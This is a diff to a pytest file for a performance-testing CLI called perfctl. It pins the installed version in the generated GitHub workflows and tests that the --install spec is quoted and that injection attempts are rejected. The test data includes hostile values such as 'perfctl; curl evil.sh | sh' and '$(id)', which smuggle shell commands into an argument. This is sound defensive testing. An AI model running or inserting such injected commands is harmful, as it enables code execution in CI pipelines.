@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from perfctl import ci, scaffold
+from perfctl import __version__, ci, scaffold
 from perfctl.errors import UsageError
 from perfctl.github import Target
 from perfctl.model import FAILED, IMPROVED, NO_CHANGE, REGRESSED, comparison_from_dict
@@ -363,6 +363,9 @@ def test_init_ci_github_writes_both_workflows(tmp_path: Path) -> None:
     assert "actions/cache@" in main and ".perfctl/envs" in main
     assert "upload-artifact" in main and "fetch-depth: 0" in main
     assert "workflow_run" in post and "--comparison-file" in post
+    # Pinned to the perfctl that wrote them.
+    pinned = f"run: python -m pip install perfctl=={__version__}\n"
+    assert pinned in main and pinned in post and "__PERFCTL_INSTALL__" not in main + post
     # Workflows edited by hand are protected; identical ones are "unchanged".
     again = scaffold.init_project(tmp_path, "github")
     assert {s.action for s in again} == {"kept", "unchanged"}
@@ -397,6 +400,21 @@ def test_starter_regime_runs(tmp_path: Path) -> None:
     listed = run_cli("list", "--format", "json", cwd=tmp_path)
     assert listed.returncode == 0, listed.stderr
     assert "sort_floats" in listed.stdout
+
+
+def test_init_install_spec_is_written_quoted_and_hostile_ones_refused(tmp_path: Path) -> None:
+    url = "git+https://example.org/perfctl.git@v0.1.0#egg=perfctl"
+    out = run_cli("init", "--ci", "github", "--install", url, "-C", str(tmp_path), cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    main = (tmp_path / ".github" / "workflows" / "perfctl.yml").read_text()
+    assert f"run: python -m pip install '{url}'\n" in main
+    other = tmp_path / "other"
+    other.mkdir()
+    for hostile in ("perfctl; curl evil.sh | sh", "$(id)", "perfctl'", "-e ."):
+        bad = run_cli("init", "--ci", "github", "--install", hostile, "-C", str(other), cwd=other)
+        assert bad.returncode == 2, (hostile, bad.stderr)
+        assert bad.stderr.startswith("Error: --install `") and "Hint:" in bad.stderr
+        assert not (other / ".github").exists() and not (other / "pyproject.toml").exists()
 
 
 def test_init_usage_errors(tmp_path: Path) -> None:
